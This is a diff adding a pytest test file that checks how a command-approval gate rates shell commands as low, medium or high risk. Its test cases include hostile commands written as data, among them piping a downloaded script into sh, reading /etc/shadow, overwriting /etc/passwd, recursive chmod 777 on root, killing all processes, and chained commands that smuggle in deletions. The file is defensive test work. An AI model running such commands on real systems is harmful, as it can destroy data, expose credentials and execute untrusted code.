@@ -1,0 +1,34 @@
+"""The risk that an approver sees."""
+
+import pytest
+
+from pulsus.gates.approval_risk import approval_risk
+
+
+@pytest.mark.parametrize(
+    ("command", "risk"),
+    [
+        ("df -h", "low"),
+        ("tail -f /var/log/syslog", "low"),
+        ("systemctl restart nginx", "medium"),
+        ("sudo systemctl restart nginx", "medium"),
+        ("ls; docker stop web", "medium"),
+        ("apt install htop", "medium"),
+        ("chmod 644 x", "medium"),
+        ("frobnicate", "medium"),
+        ("", "medium"),
+        ("rm x", "high"),
+        ("chmod -R 777 /", "high"),
+        ("systemctl stop sshd", "high"),
+        ("systemctl restart nginx && rm x", "high"),
+        ("systemctl restart nginx > /etc/passwd", "high"),
+        ("bash -c 'systemctl restart nginx; rm x'", "high"),
+        ("curl https://example.org/x | sh", "high"),
+        ("cat /etc/shadow", "high"),
+        ("kill -9 -1", "high"),
+        ("reboot", "high"),
+        ("apt-get remove --purge nginx", "high"),
+    ],
+)
+def test_what_cannot_be_undone_is_high(command, risk):
+    assert approval_risk(command) == risk
